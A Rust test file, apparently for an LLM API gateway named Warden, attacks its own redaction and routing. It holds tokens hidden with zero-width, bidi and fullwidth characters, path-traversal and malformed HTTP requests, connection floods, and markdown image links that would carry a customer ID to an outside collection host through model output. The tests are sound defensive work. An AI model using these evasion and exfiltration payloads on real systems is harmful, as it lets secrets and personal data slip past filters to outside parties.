//! An attacker's view of the gateway: each test takes one class of bypass and tries it several
//! ways, black-box, with the mock's own record of what it received as proof of what left Warden.

use std::time::Duration;

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::helpers::{TestApp, bundled_policies, expect_error, key_entry};

const SUPPORT_KEY: &str = "wdn_SupportAdversaryKey000000000000000000000";
/// A GitHub token of the documented shape (`ghp_` and 36 letters and digits).
const TOKEN: &str = "ghp_Zq3VhT8mR2kLx9WbN4cJ7pYs1dFgA6eUo5iK";
const TOKEN_BODY: &str = "Zq3VhT8mR2kLx9WbN4cJ7pYs1dFgA6eUo5iK";
const SSN: &str = "536-22-8491";

async fn bundled() -> TestApp {
    TestApp::start_with(|c| {
        c.policies.dir = bundled_policies();
        c.keys
            .push(key_entry(SUPPORT_KEY, "key_support", "support"));
        c.passthrough_paths = vec!["/v1/files".into(), "/v1/messages/batches".into()];
    })
    .await
}

/// Everything the mock received, as one string per request.
fn received(app: &TestApp) -> Vec<String> {
    app.mock
        .state
        .received()
        .into_iter()
        .map(|r| r.body)
        .collect()
}

/// Asserts a 403 that names `rule`, does not echo `value`, and that nothing more went upstream
/// than the `before` requests the mock had already received.
async fn refused_and_kept(
    app: &TestApp,
    r: reqwest::Response,
    before: usize,
    rule: &str,
    value: &str,
    what: &str,
) {
    let message = expect_error(r, 403, "permission_error").await;
    assert!(message.contains(rule), "{what}: {message}");
    assert!(
        !message.contains(value),
        "{what}: the error echoes the value"
    );
    assert_eq!(
        received(app).len(),
        before,
        "{what}: something went upstream"
    );
}

/// Whether `body` carries the token in any form a reader would recover: as it is, with hidden
/// characters or in fullwidth forms.
fn leaks_token(body: &str) -> bool {
    let canon = warden::detect::canonical::canonical(body);
    canon.text().contains(TOKEN) || canon.text().contains(TOKEN_BODY)
}

/// The JSON escapes of a string as it is written in a request body.
fn json_str(s: &str) -> String {
    serde_json::to_string(s).expect("string")
}

fn fullwidth(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            '!'..='~' => char::from_u32(c as u32 - 0x21 + 0xFF01).unwrap_or(c),
            c => c,
        })
        .collect()
}

/// The token hidden in the ways a page or a ticket can hide it.
fn hidden_tokens() -> Vec<(&'static str, String)> {
    let (head, tail) = TOKEN.split_at(9);
    vec![
        ("zero-width space", format!("{head}\u{200B}{tail}")),
        ("word joiner", format!("{head}\u{2060}{tail}")),
        ("soft hyphen", format!("{head}\u{00AD}{tail}")),
        (
            "zero-width joiners throughout",
            TOKEN.chars().map(|c| format!("{c}\u{200D}")).collect(),
        ),
        ("bidi override", format!("\u{202E}{head}\u{202C}{tail}")),
        ("tag characters", format!("{head}\u{E0041}\u{E0042}{tail}")),
        ("variation selector", format!("{head}\u{FE0F}{tail}")),
        ("fullwidth", fullwidth(TOKEN)),
        ("html comment", format!("{head}<!-- x -->{tail}")),
    ]
}

fn ask_with_blocks(blocks: Value) -> Value {
    json!({"model": "claude-sonnet-4-5", "max_tokens": 100,
           "messages": [{"role": "user", "content": blocks}]})
}

/// A conversation whose last turn is the result of a `fetch` call holding `text`.
fn tool_round(text: &str) -> Value {
    json!({"model": "claude-sonnet-4-5", "max_tokens": 100, "messages": [
        {"role": "user", "content": "read the page"},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_01", "name": "fetch", "input": {"url": "https://docs.example.com"}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_01", "content": text}]}
    ]})
}

#[tokio::test]
async fn hidden_characters_and_other_forms_do_not_carry_a_secret_past_the_scan() {
    let app = bundled().await;
    for (how, hidden) in hidden_tokens() {
        let page = format!("Setup: export GITHUB_TOKEN={hidden} then run make");
        for body in [
            tool_round(&page),
            ask_with_blocks(json!([{"type": "text", "text": page}])),
            json!({"model": "claude-sonnet-4-5", "max_tokens": 100, "system": page,
                   "messages": [{"role": "user", "content": "hi"}]}),
        ] {
            let r = app
                .post("/v1/messages")
                .json(&body)
                .send()
                .await
                .expect("sent");
            assert_eq!(r.status(), 200, "{how}");
            let sent = received(&app).pop().expect("forwarded");
            assert!(!leaks_token(&sent), "{how}: the token left Warden: {sent}");
            assert!(sent.contains("[REDACTED:github_pat]"), "{how}: {sent}");
        }
    }
}

#[tokio::test]
async fn a_blocked_class_is_blocked_whatever_hides_it() {
    let app = bundled().await;
    let (a, b) = SSN.split_at(4);
    for (how, ssn) in [
        ("plain", SSN.to_string()),
        ("zero-width space", format!("{a}\u{200B}{b}")),
        ("zero-width non-joiner", format!("{a}\u{200C}{b}")),
        ("fullwidth digits", fullwidth(SSN)),
        (
            "mathematical digits",
            SSN.chars()
                .map(|c| match c.to_digit(10) {
                    Some(d) => char::from_u32(0x1D7CE + d).unwrap_or(c),
                    None => c,
                })
                .collect(),
        ),
        ("non-breaking hyphen", SSN.replace('-', "\u{2011}")),
    ] {
        let before = received(&app).len();
        let r = app
            .post_as(SUPPORT_KEY, "/v1/messages")
            .json(&tool_round(&format!("Customer SSN: {ssn}. Please verify.")))
            .send()
            .await
            .expect("sent");
        refused_and_kept(&app, r, before, "pii.ssn", SSN, how).await;
    }
}

#[tokio::test]
async fn a_secret_split_across_adjacent_text_blocks_is_found() {
    let app = bundled().await;
    let (head, tail) = TOKEN.split_at(12);
    let (mid, end) = tail.split_at(10);
    for blocks in [
        json!([{"type": "text", "text": format!("token {head}")}, {"type": "text", "text": format!("{tail} ok")}]),
        json!([{"type": "text", "text": head}, {"type": "text", "text": mid}, {"type": "text", "text": end}]),
        json!([{"type": "text", "text": format!("x {head}\u{200B}")}, {"type": "text", "text": format!("\u{200B}{tail}")}]),
    ] {
        let r = app
            .post("/v1/messages")
            .json(&ask_with_blocks(blocks.clone()))
            .send()
            .await
            .expect("sent");
        assert_eq!(r.status(), 200, "{blocks}");
        let sent: Value = serde_json::from_str(&received(&app).pop().expect("sent")).expect("json");
        let joined: String = sent["messages"][0]["content"]
            .as_array()
            .expect("blocks")
            .iter()
            .map(|b| b["text"].as_str().unwrap_or(""))
            .collect();
        assert!(!leaks_token(&joined), "{blocks} → {joined}");
        assert!(joined.contains("[REDACTED:github_pat]"), "{joined}");
    }
    // A blocked class split across blocks is blocked.
    let (a, b) = SSN.split_at(5);
    let r = app
        .post_as(SUPPORT_KEY, "/v1/messages")
        .json(&ask_with_blocks(
            json!([{"type": "text", "text": format!("ssn {a}")}, {"type": "text", "text": b}]),
        ))
        .send()
        .await
        .expect("sent");
    expect_error(r, 403, "permission_error").await;
}

#[tokio::test]
async fn every_field_the_model_reads_is_scanned() {
    let app = bundled().await;
    let base = || -> Value {
        json!({"model": "claude-sonnet-4-5", "max_tokens": 100,
               "messages": [{"role": "user", "content": "hi"}]})
    };
    // Fields Warden may rewrite: the value goes out redacted.
    let rewritable: Vec<(&str, Value)> = vec![
        ("tools[].description", {
            let mut b = base();
            b["tools"] = json!([{"name": "deploy", "description": format!("uses {TOKEN}"), "input_schema": {"type": "object"}}]);
            b
        }),
        ("tools[].input_schema", {
            let mut b = base();
            b["tools"] = json!([{"name": "deploy", "input_schema": {"type": "object", "properties": {"t": {"type": "string", "description": format!("default {TOKEN}"), "enum": [TOKEN]}}}}]);
            b
        }),
        (
            "tool_use.input, deep",
            json!({"model": "claude-sonnet-4-5", "max_tokens": 100, "messages": [
                {"role": "user", "content": "go"},
                {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_9", "name": "run", "input": {"env": [{"k": "T", "v": {"value": TOKEN}}]}}]},
                {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_9", "content": "done"}]}
            ]}),
        ),
        ("metadata.user_id", {
            let mut b = base();
            b["metadata"] = json!({"user_id": TOKEN});
            b
        }),
        ("stop_sequences", {
            let mut b = base();
            b["stop_sequences"] = json!(["END", TOKEN]);
            b
        }),
        ("container", {
            let mut b = base();
            b["container"] = json!(TOKEN);
            b
        }),
        ("an unknown top-level field", {
            let mut b = base();
            b["future_field"] = json!({"notes": [format!("keep {TOKEN}")]});
            b
        }),
        (
            "a message's unknown field",
            json!({"model": "claude-sonnet-4-5", "max_tokens": 100,
            "messages": [{"role": "user", "content": "hi", "annotation": TOKEN}]}),
        ),
        (
            "a text block's unknown field",
            ask_with_blocks(json!([{"type": "text", "text": "hi", "note": TOKEN}])),
        ),
        (
            "an unknown block type",
            ask_with_blocks(json!([{"type": "hologram", "payload": {"text": TOKEN}}])),
        ),
        (
            "a tool_result's unknown field",
            json!({"model": "claude-sonnet-4-5", "max_tokens": 100, "messages": [
                {"role": "user", "content": "go"},
                {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_9", "name": "run", "input": {}}]},
                {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_9", "content": "ok", "meta": TOKEN}]}
            ]}),
        ),
    ];
    for (field, body) in rewritable {
        let r = app
            .post("/v1/messages")
            .json(&body)
            .send()
            .await
            .expect("sent");
        assert_eq!(r.status(), 200, "{field}");
        let sent = received(&app).pop().expect("forwarded");
        assert!(
            !leaks_token(&sent),
            "{field}: the token left Warden: {sent}"
        );
    }
    // Fields that cannot be rewritten (names, ids, keys, signed thinking): refused.
    let fixed: Vec<(&str, Value)> = vec![
        ("tools[].name", {
            let mut b = base();
            b["tools"] = json!([{"name": TOKEN, "input_schema": {"type": "object"}}]);
            b
        }),
        (
            "a tool_use id",
            json!({"model": "claude-sonnet-4-5", "max_tokens": 100, "messages": [
                {"role": "user", "content": "go"},
                {"role": "assistant", "content": [{"type": "tool_use", "id": TOKEN, "name": "run", "input": {}}]},
                {"role": "user", "content": [{"type": "tool_result", "tool_use_id": TOKEN, "content": "ok"}]}
            ]}),
        ),
        ("an object key", {
            let mut b = base();
            b["metadata"] = json!({TOKEN: "x"});
            b
        }),
        ("an input_schema property name", {
            let mut b = base();
            b["tools"] = json!([{"name": "t", "input_schema": {"type": "object", "properties": {TOKEN: {"type": "string"}}}}]);
            b
        }),
        ("the model", {
            let mut b = base();
            b["model"] = json!(format!("claude-sonnet-{TOKEN}"));
            b
        }),
        (
            "a thinking block",
            json!({"model": "claude-sonnet-4-5", "max_tokens": 100, "messages": [
                {"role": "user", "content": "go"},
                {"role": "assistant", "content": [{"type": "thinking", "thinking": format!("the token is {TOKEN}"), "signature": "c2lnbmF0dXJl"}, {"type": "text", "text": "ok"}]},
                {"role": "user", "content": "next"}
            ]}),
        ),
        (
            "a redacted_thinking block",
            json!({"model": "claude-sonnet-4-5", "max_tokens": 100, "messages": [
                {"role": "user", "content": "go"},
                {"role": "assistant", "content": [{"type": "redacted_thinking", "data": TOKEN}, {"type": "text", "text": "ok"}]},
                {"role": "user", "content": "next"}
            ]}),
        ),
    ];
    for (field, body) in fixed {
        let before = received(&app).len();
        let r = app
            .post("/v1/messages")
            .json(&body)
            .send()
            .await
            .expect("sent");
        refused_and_kept(&app, r, before, "github_pat", TOKEN_BODY, field).await;
    }
}

#[tokio::test]
async fn a_repeated_key_is_refused_and_nothing_goes_out() {
    let app = bundled().await;
    let clean = r#"{"role": "user", "content": "hello"}"#;
    let dirty = format!(
        r#"{{"role": "user", "content": {}}}"#,
        json_str(&format!("key {TOKEN}"))
    );
    for body in [
        format!(
            r#"{{"model": "claude-sonnet-4-5", "max_tokens": 10, "messages": [{dirty}], "messages": [{clean}]}}"#
        ),
        format!(
            r#"{{"model": "claude-sonnet-4-5", "max_tokens": 10, "messages": [{clean}], "messages": [{dirty}]}}"#
        ),
        format!(
            r#"{{"model": "claude-sonnet-4-5", "max_tokens": 10, "messages": [{{"role": "user", "content": {}, "content": "hello"}}]}}"#,
            json_str(TOKEN)
        ),
        format!(
            r#"{{"model": "claude-sonnet-4-5", "max_tokens": 10, "messages": [{clean}], "metadata": {{"user_id": {}, "user_id": "u"}}}}"#,
            json_str(TOKEN)
        ),
        format!(
            r#"{{"model": "claude-sonnet-4-5", "max_tokens": 10, "m\u0065ssages": [{dirty}], "messages": [{clean}]}}"#
        ),
    ] {
        for path in ["/v1/messages", "/v1/messages/count_tokens"] {
            let r = app
                .post(path)
                .body(body.clone())
                .send()
                .await
                .expect("sent");
            let message = expect_error(r, 400, "invalid_request_error").await;
            assert!(message.contains("repeats a key"), "{message}");
        }
    }
    assert!(received(&app).is_empty(), "nothing may go upstream");
}

/// Sends one raw HTTP/1.1 request (no client-side URL normalisation) and returns the status.
async fn raw_status(base: &str, request_line: &str, body: &str) -> u16 {
    let addr = base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    let head = format!(
        "{request_line}\r\nhost: {addr}\r\nx-api-key: {}\r\nanthropic-version: 2023-06-01\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
        crate::helpers::WARDEN_KEY,
        body.len()
    );
    stream.write_all(head.as_bytes()).await.expect("write");
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut out)).await;
    let text = String::from_utf8_lossy(&out);
    text.split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

#[tokio::test]
async fn a_path_that_could_be_read_as_another_is_refused_before_routing() {
    let app = bundled().await;
    let body = json!({"model": "claude-sonnet-4-5", "max_tokens": 10,
                      "messages": [{"role": "user", "content": format!("k {TOKEN}")}]})
    .to_string();
    for path in [
        "/v1/files/../messages",
        "/v1/files/./../messages",
        "/v1/files/%2e%2e/messages",
        "/v1/files/%2E%2e/messages",
        "/v1/files/.%2e/messages",
        "/v1/messages/batches/../../messages",
        "/v1/files%2f..%2fmessages",
        "/v1/files/..%2fmessages",
        "/v1/files/..%5cmessages",
        "/v1/files/..\\messages",
        "/v1//messages",
        "//v1/messages",
        "/v1/messages/",
        "/v1/%6dessages",
        "/v1/files/%252e%252e/messages",
    ] {
        let status = raw_status(&app.url, &format!("POST {path} HTTP/1.1"), &body).await;
        assert_eq!(status, 400, "{path}");
    }
    assert!(received(&app).is_empty(), "nothing may go upstream");
    // A pass-through prefix matches whole segments only.
    let status = raw_status(&app.url, "POST /v1/filesystem HTTP/1.1", "{}").await;
    assert_eq!(status, 404);
    assert!(received(&app).is_empty());
}

/// Sends raw bytes and returns the whole answer as text.
async fn raw_answer(base: &str, bytes: &[u8]) -> String {
    let addr = base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    stream.write_all(bytes).await.expect("write");
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).into_owned()
}

/// What hyper refuses before any Warden code sees the request (a malformed head, framing
/// headers that disagree, a head too large) and methods no route takes are answered in the
/// API's error envelope, and nothing goes upstream.
#[tokio::test]
async fn requests_the_http_layer_refuses_are_answered_in_the_api_envelope() {
    let app = bundled().await;
    let addr = app.url.trim_start_matches("http://").to_string();
    let key = crate::helpers::WARDEN_KEY;
    let body = r#"{"model":"m","max_tokens":1,"messages":[]}"#;
    let big = "a".repeat(200_000);
    let cases: Vec<(&str, String, u16)> = vec![
        ("garbage request line", "GARBAGE\r\n\r\n".to_string(), 400),
        (
            "a header name with a space",
            format!("POST /v1/messages HTTP/1.1\r\nhost: {addr}\r\nbad header: x\r\n\r\n"),
            400,
        ),
        (
            "two content-lengths that disagree",
            format!(
                "POST /v1/messages HTTP/1.1\r\nhost: {addr}\r\nx-api-key: {key}\r\ncontent-length: 5\r\ncontent-length: {}\r\n\r\n{body}",
                body.len()
            ),
            400,
        ),
        (
            "content-length with a sign",
            format!(
                "POST /v1/messages HTTP/1.1\r\nhost: {addr}\r\nx-api-key: {key}\r\ncontent-length: +{}\r\n\r\n{body}",
                body.len()
            ),
            400,
        ),
        (
            "a head too large",
            format!("GET /v1/models HTTP/1.1\r\nhost: {addr}\r\nx-big: {big}\r\n\r\n"),
            431,
        ),
        (
            "TRACE",
            format!("TRACE / HTTP/1.1\r\nhost: {addr}\r\nconnection: close\r\n\r\n"),
            405,
        ),
    ];
    for (what, request, status) in cases {
        let answer = raw_answer(&app.url, request.as_bytes()).await;
        let code: u16 = answer
            .split_whitespace()
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or(0);
        assert_eq!(code, status, "{what}: {answer}");
        let json = answer.split("\r\n\r\n").nth(1).unwrap_or("");
        let v: Value =
            serde_json::from_str(json).unwrap_or_else(|_| panic!("{what}: not JSON: {answer}"));
        assert_eq!(v["type"], "error", "{what}");
        assert!(
            v["error"]["type"].is_string() && v["error"]["message"].is_string(),
            "{what}: {v}"
        );
    }
    assert!(received(&app).is_empty(), "nothing may go upstream");
}

#[tokio::test]
async fn every_request_that_goes_upstream_is_audited() {
    let db = std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
        .join(format!("adversarial-audit-{}.db", rand::random::<u64>()));
    let app = TestApp::start_with(|c| {
        c.policies.dir = bundled_policies();
        c.passthrough_paths = vec!["/v1/files".into()];
        c.audit.sqlite_path = db.clone();
    })
    .await;
    let r = app.get("/v1/files/file_123").send().await.expect("sent");
    let forwarded_files = r.status().as_u16();
    let r = app.get("/v1/models").send().await.expect("sent");
    assert_eq!(r.status(), 200);
    let store = warden::audit::AuditStore::connect(&format!("sqlite://{}", db.display()))
        .await
        .expect("open");
    let mut endpoints = Vec::new();
    for _ in 0..100 {
        endpoints = store
            .chains()
            .await
            .expect("read")
            .into_values()
            .flatten()
            .map(|r| (r.record.endpoint, r.record.status))
            .collect::<Vec<_>>();
        if endpoints.len() >= 2 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(
        endpoints.contains(&(
            "GET /v1/files/file_123".to_string(),
            i32::from(forwarded_files)
        )),
        "{endpoints:?}"
    );
    assert!(
        endpoints.contains(&("GET /v1/models".to_string(), 200)),
        "{endpoints:?}"
    );
}

/// A connection from `source` (a loopback address of its own) to `target`.
async fn connect_from(source: &str, target: &str) -> Option<tokio::net::TcpStream> {
    let socket = tokio::net::TcpSocket::new_v4().ok()?;
    socket
        .bind(format!("{source}:0").parse().expect("address"))
        .ok()?;
    tokio::time::timeout(
        Duration::from_millis(500),
        socket.connect(target.parse().expect("address")),
    )
    .await
    .ok()?
    .ok()
}

#[tokio::test]
async fn a_connection_flood_from_one_client_does_not_stop_the_service() {
    let app = TestApp::start_with(|c| {
        c.limits.max_connections = 200;
        c.limits.max_connections_per_peer = 50;
        c.limits.admin_max_connections = 40;
        c.limits.connection_idle_timeout_ms = 500;
    })
    .await;
    let api = app.url.trim_start_matches("http://").to_string();
    let admin = app.admin_url.trim_start_matches("http://").to_string();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    let mut held = Vec::new();
    // Idle HTTP/1.1 connections, a partial request head, HTTP/2 prefaces with nothing after them,
    // and idle connections to the admin listener: each from an address of its own, 300 each.
    for (source, target, opening) in [
        ("127.0.0.2", &api, &b""[..]),
        ("127.0.0.3", &api, &b"GET / HTTP/1.1\r\nhost: x\r\n"[..]),
        ("127.0.0.4", &api, &b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..]),
        ("127.0.0.5", &admin, &b""[..]),
    ] {
        for _ in 0..300 {
            if tokio::time::Instant::now() > deadline {
                break;
            }
            if let Some(mut s) = connect_from(source, target).await {
                let _ = s.write_all(opening).await;
                held.push(s);
            }
        }
    }
    // Meanwhile everyone else is served: the API and the admin listener.
    for _ in 0..10 {
        let r = app.send_messages("", false).await;
        assert_eq!(r.status(), 200);
        let r = app
            .http
            .get(format!("{}/metrics", app.admin_url))
            .send()
            .await
            .expect("admin answers during the flood");
        assert_eq!(r.status(), 200);
    }
    let metrics = app.metrics().await;
    let refused: u64 = metrics
        .lines()
        .find_map(|l| l.strip_prefix("warden_connections_refused_total "))
        .and_then(|v| v.parse().ok())
        .expect("counted");
    assert!(
        refused >= 500,
        "each address beyond its share was refused: {refused}"
    );
    // HTTP/2 connections that never open a stream are closed once idle, handshake or not.
    let mut idle = Vec::new();
    for (i, opening) in [
        &b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..],
        &b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"[..],
    ]
    .iter()
    .cycle()
    .take(10)
    .enumerate()
    {
        let mut s = connect_from("127.0.0.6", &api)
            .await
            .expect("under the caps");
        s.write_all(opening).await.expect("write");
        idle.push((i, s));
    }
    for (i, s) in idle.iter_mut() {
        let mut buf = vec![0u8; 4096];
        let ended = tokio::time::timeout(Duration::from_secs(5), async {
            loop {
                match s.read(&mut buf).await {
                    Ok(0) | Err(_) => return,
                    Ok(_) => {}
                }
            }
        })
        .await;
        assert!(ended.is_ok(), "idle HTTP/2 connection {i} was closed");
    }
    drop(held);
}

#[tokio::test]
async fn a_flood_of_refused_keys_is_counted_not_recorded_one_row_each() {
    let db = std::path::PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
        .join(format!("adversarial-refusals-{}.db", rand::random::<u64>()));
    let app = TestApp::start_with(|c| c.audit.sqlite_path = db.clone()).await;
    for i in 0..200 {
        let key = if i % 2 == 0 {
            "wdn_wrong-key-a"
        } else {
            "wdn_wrong-key-b"
        };
        let r = app
            .post_as(key, "/v1/messages")
            .json(&crate::helpers::message_body("m", false))
            .send()
            .await
            .expect("sent");
        assert_eq!(r.status(), 401);
    }
    let metrics = app.metrics().await;
    assert!(
        metrics.contains("warden_auth_refused_total 200"),
        "{metrics}"
    );
    assert!(
        metrics.contains("warden_auth_refusals_recorded_total 2"),
        "{metrics}"
    );
    let store = warden::audit::AuditStore::connect(&format!("sqlite://{}", db.display()))
        .await
        .expect("open");
    let mut rows = 0;
    for _ in 0..100 {
        rows = store
            .chains()
            .await
            .expect("read")
            .into_values()
            .flatten()
            .filter(|r| r.record.status == 401)
            .count();
        if rows >= 2 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(rows, 2, "one row per client address and key each minute");
}

fn ask(text: &str, stream: bool) -> Value {
    json!({"model": "claude-sonnet-4-5", "max_tokens": 300, "stream": stream,
           "messages": [{"role": "user", "content": text}]})
}

/// The text a client got: the text deltas of a stream, or the text blocks of a message.
async fn reply_text(r: reqwest::Response, stream: bool) -> String {
    let body = r.text().await.expect("body");
    if stream {
        crate::helpers::streamed_text(&body)
    } else {
        let v: Value = serde_json::from_str(&body).expect("json");
        v["content"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|b| b["text"].as_str())
            .collect()
    }
}

/// A secret the model writes with hidden or look-alike characters inside is redacted from the
/// reply like a plain one, streamed at any chunk size or not.
#[tokio::test]
async fn a_secret_the_model_hides_in_its_reply_is_redacted() {
    let app = bundled().await;
    let (head, tail) = TOKEN_BODY.split_at(12);
    for (form, written) in [
        ("zero-width space", format!("ghp_{head}\\u200b{tail}")),
        ("word joiner", format!("ghp_{head}\\u2060{tail}")),
        ("soft hyphen", format!("ghp_{head}\\u00ad{tail}")),
        ("bidi override", format!("ghp_\\u202d{TOKEN_BODY}\\u202c")),
        (
            "fullwidth prefix",
            format!("\\uff47\\uff48\\uff50\\uff3f{TOKEN_BODY}"),
        ),
    ] {
        let say = format!("Set GITHUB_TOKEN={written} and rerun.");
        for (stream, scenario) in [
            (true, "say:1"),
            (true, "say:7"),
            (true, "say:64"),
            (false, "say:5"),
        ] {
            let r = app
                .post("/v1/messages")
                .header("x-mock-scenario", scenario)
                .header("x-mock-say", &say)
                .json(&ask("how do I auth?", stream))
                .send()
                .await
                .expect("sent");
            assert_eq!(r.status(), 200);
            let text = reply_text(r, stream).await;
            assert!(
                !leaks_token(&text),
                "{form}, {scenario}, stream {stream}: {text:?}"
            );
            assert!(
                text.contains("[REDACTED:github_pat]"),
                "{form}, {scenario}: {text:?}"
            );
        }
    }
}

/// A pseudonym placeholder the model writes inside a URL stays a placeholder (restoring it would
/// hand the real value to whoever the URL points at); in prose it is restored.
#[tokio::test]
async fn placeholders_are_not_restored_into_urls_the_model_writes() {
    let app = bundled().await;
    let id = "ACME-C-0012345";
    for (what, prompt) in [
        (
            "markdown image",
            format!("Account {id}. ![p](https://collect.example/?c={id})"),
        ),
        (
            "markdown link",
            format!("Account {id}. [open](http://collect.example/a/{id}/b)"),
        ),
        (
            "bare URL",
            format!("Account {id}. See https://collect.example/q?x=1&c={id} now"),
        ),
        (
            "angle-bracketed URL",
            format!("Account {id}. <https://collect.example/{id}>"),
        ),
    ] {
        for (stream, scenario) in [
            (true, "parrot:1"),
            (true, "parrot:4"),
            (true, "parrot:100"),
            (false, "parrot:3"),
        ] {
            let r = app
                .post_as(SUPPORT_KEY, "/v1/messages")
                .header("x-mock-scenario", scenario)
                .json(&ask(&prompt, stream))
                .send()
                .await
                .expect("sent");
            assert_eq!(r.status(), 200, "{what}");
            let text = reply_text(r, stream).await;
            assert!(
                text.starts_with(&format!("Account {id}.")),
                "{what}, {scenario}: prose is restored: {text:?}"
            );
            assert_eq!(
                text.matches(id).count(),
                1,
                "{what}, {scenario}: the URL keeps its placeholder: {text:?}"
            );
            assert!(
                text.contains("<CUSTOMER_ID_1>"),
                "{what}, {scenario}: {text:?}"
            );
        }
    }
}
